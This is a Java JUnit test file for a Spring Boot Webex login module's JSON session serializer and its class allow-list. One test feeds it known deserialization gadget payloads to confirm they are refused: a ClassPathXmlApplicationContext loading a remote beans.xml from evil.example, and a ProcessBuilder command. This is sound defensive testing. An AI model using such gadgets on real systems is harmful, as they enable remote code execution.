package com.example.webex.login;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.core.serializer.support.SerializingConverter;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.security.core.context.SecurityContext;
import org.springframework.security.core.context.SecurityContextImpl;
import org.springframework.security.oauth2.client.authentication.OAuth2AuthenticationToken;
import org.springframework.security.oauth2.core.endpoint.OAuth2AuthorizationRequest;
import org.springframework.security.oauth2.core.user.DefaultOAuth2User;
import org.springframework.security.oauth2.core.user.OAuth2User;
import org.springframework.security.web.authentication.WebAuthenticationDetails;
import org.springframework.security.web.csrf.DefaultCsrfToken;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

/**
 * {@link JsonSessionAttributes}: everything the app keeps in a session round-trips as
 * JSON; nothing else is instantiated, and nothing unreadable fails a request.
 */
@ExtendWith(OutputCaptureExtension.class)
class JsonSessionAttributesTests {

	private final JsonSessionAttributes json = new JsonSessionAttributes(getClass().getClassLoader());

	private final JsonMapper plain = JsonMapper.builder().build();

	@Test
	void securityContextWhenWrittenThenJsonThatReadsBackAsTheSameUser() {
		SecurityContextImpl context = signedIn();
		byte[] stored = this.json.write(context);

		JsonNode tree = this.plain.readTree(stored);
		assertThat(tree.path("@class").asString()).isEqualTo(SecurityContextImpl.class.getName());
		assertThat(new String(stored, StandardCharsets.UTF_8)).contains("\"displayName\":\"Zoë Ångström\"")
			.doesNotContain("sessionId\":\"");
		Object read = this.json.read(stored);
		assertThat(read).isInstanceOf(SecurityContextImpl.class);
		OAuth2AuthenticationToken token = (OAuth2AuthenticationToken) ((SecurityContextImpl) read).getAuthentication();
		assertThat(token.getName()).isEqualTo("Y2lzY29zcGFyazovL3VzL1BFT1BMRS96b2U");
		assertThat(token.getPrincipal().getAttributes())
			.isEqualTo(context.getAuthentication().getPrincipal() instanceof OAuth2User user ? user.getAttributes()
					: Map.of());
		assertThat(token.getAuthorities()).isEqualTo(context.getAuthentication().getAuthorities());
		assertThat(token.getAuthorizedClientRegistrationId()).isEqualTo("webex");
		assertThat(token.getDetails()).isEqualTo(context.getAuthentication().getDetails());
		assertThat(token.isAuthenticated()).isTrue();
	}

	@Test
	void securityContextWhenReadAgainThenTheSameUserInAContextOfItsOwn() {
		byte[] stored = this.json.write(signedIn());
		SecurityContext first = (SecurityContext) this.json.read(stored);
		SecurityContext again = (SecurityContext) this.json.read(stored.clone());
		assertThat(again).isNotSameAs(first);
		assertThat(again.getAuthentication()).isSameAs(first.getAuthentication());
		// a request that signs its user out clears its own context only
		first.setAuthentication(null);
		assertThat(((SecurityContext) this.json.read(stored)).getAuthentication().getName())
			.isEqualTo("Y2lzY29zcGFyazovL3VzL1BFT1BMRS96b2U");
	}

	@Test
	void securityContextWhenStoredAnewThenReadAnew() {
		SecurityContext before = (SecurityContext) this.json.read(this.json.write(signedIn()));
		SecurityContextImpl other = signedIn();
		((OAuth2AuthenticationToken) other.getAuthentication())
			.setDetails(new WebAuthenticationDetails("192.0.2.1", null));
		SecurityContext after = (SecurityContext) this.json.read(this.json.write(other));
		assertThat(after.getAuthentication()).isNotSameAs(before.getAuthentication());
		assertThat(after.getAuthentication().getDetails()).isEqualTo(other.getAuthentication().getDetails());
	}

	@Test
	void pendingSignInWhenReadAgainThenParsedAgain() {
		OAuth2AuthorizationRequest request = OAuth2AuthorizationRequest.authorizationCode()
			.authorizationUri("https://webexapis.com/v1/authorize")
			.clientId("client")
			.redirectUri("http://localhost:10060/oauth")
			.state("state-1")
			.build();
		byte[] stored = this.json
			.write(new PendingAuthorizationRequests.Pending(request, Instant.parse("2026-03-01T10:00:00Z"), "/"));
		assertThat(this.json.read(stored)).isNotSameAs(this.json.read(stored)).isEqualTo(this.json.read(stored));
	}

	@Test
	void pendingSignInAndCsrfTokenWhenWrittenThenReadBack() {
		OAuth2AuthorizationRequest request = OAuth2AuthorizationRequest.authorizationCode()
			.authorizationUri("https://webexapis.com/v1/authorize")
			.clientId("client")
			.redirectUri("http://localhost:10060/oauth")
			.scopes(Set.of("spark:people_read"))
			.state("state-1")
			.attributes((attributes) -> attributes.put("code_verifier", "verifier"))
			.build();
		PendingAuthorizationRequests.Pending pending = new PendingAuthorizationRequests.Pending(request,
				Instant.parse("2026-03-01T10:00:00.123456Z"), "/spaces?type=group");
		Object read = this.json.read(this.json.write(pending));
		assertThat(read).isInstanceOfSatisfying(PendingAuthorizationRequests.Pending.class, (back) -> {
			assertThat(back.createdAt()).isEqualTo(pending.createdAt());
			assertThat(back.returnPath()).isEqualTo("/spaces?type=group");
			assertThat(back.request().getState()).isEqualTo("state-1");
			assertThat(back.request().getAttributes()).containsEntry("code_verifier", "verifier");
			assertThat(back.request().getAuthorizationRequestUri()).isEqualTo(request.getAuthorizationRequestUri());
		});
		DefaultCsrfToken csrf = new DefaultCsrfToken("X-CSRF-TOKEN", "_csrf", "token-value");
		assertThat(this.json.read(this.json.write(csrf))).isInstanceOfSatisfying(DefaultCsrfToken.class,
				(back) -> assertThat(back.getToken()).isEqualTo("token-value"));
		assertThat(this.json.read(this.json.write("text"))).isEqualTo("text");
	}

	@Test
	void readWhenStoredByJavaSerializationThenAbsentAndSaidSo(CapturedOutput output) {
		byte[] old = new SerializingConverter().convert(signedIn());
		assertThat(this.json.read(old)).isNull();
		assertThat(output).contains("Ignored a session attribute stored before sessions were kept as JSON");
	}

	@Test
	void readWhenAClassOffTheAllowListIsNamedThenNotInstantiated(CapturedOutput output) {
		for (String stored : List.of("{\"@class\":\"java.net.URL\",\"protocol\":\"http\",\"host\":\"evil.example\"}",
				"{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
						+ "\"configLocation\":\"http://evil.example/beans.xml\"}",
				"{\"@class\":\"org.springframework.security.core.context.SecurityContextImpl\",\"authentication\":"
						+ "{\"@class\":\"javax.management.remote.rmi.RMIConnector\"}}",
				"[\"java.lang.ProcessBuilder\",[\"touch\",\"/tmp/pwned\"]]")) {
			assertThat(this.json.read(stored.getBytes(StandardCharsets.UTF_8))).as(stored).isNull();
		}
		assertThat(output).contains("Ignored a session attribute naming a class off the allow-list: \"java.net.URL\"");
	}

	@Test
	void readWhenNotJsonThenAbsent() {
		assertThat(this.json.read("garbage".getBytes(StandardCharsets.UTF_8))).isNull();
		assertThat(this.json.read("garbage".getBytes(StandardCharsets.UTF_8))).isNull();
		assertThat(this.json.read(new byte[0])).isNull();
	}

	@Test
	void writeWhenATypeOffTheAllowListThenRefusedRatherThanLostOnTheNextRead() {
		// an unlisted class, and a value JSON would turn into another type
		assertThatIllegalArgumentException().isThrownBy(() -> this.json.write(new AtomicLong(1)))
			.withMessageContaining("java.util.concurrent.atomic.AtomicLong");
		assertThatIllegalArgumentException().isThrownBy(() -> this.json.write(1L))
			.withMessageContaining("java.lang.Long");
	}

	/** The user as the session keeps them after a sign-in. */
	static SecurityContextImpl signedIn() {
		OAuth2User user = WebexLoginAutoConfiguration.sessionUser(new DefaultOAuth2User(
				List.of(new SimpleGrantedAuthority("OAUTH2_USER"),
						new SimpleGrantedAuthority("SCOPE_spark:rooms_read")),
				Map.of("id", "Y2lzY29zcGFyazovL3VzL1BFT1BMRS96b2U", "displayName", "Zoë Ångström", "emails",
						List.of("zoe@example.com")),
				"id"));
		OAuth2AuthenticationToken token = new OAuth2AuthenticationToken(user, user.getAuthorities(), "webex");
		token.setDetails(new WebAuthenticationDetails("127.0.0.1", null));
		return new SecurityContextImpl(token);
	}

}
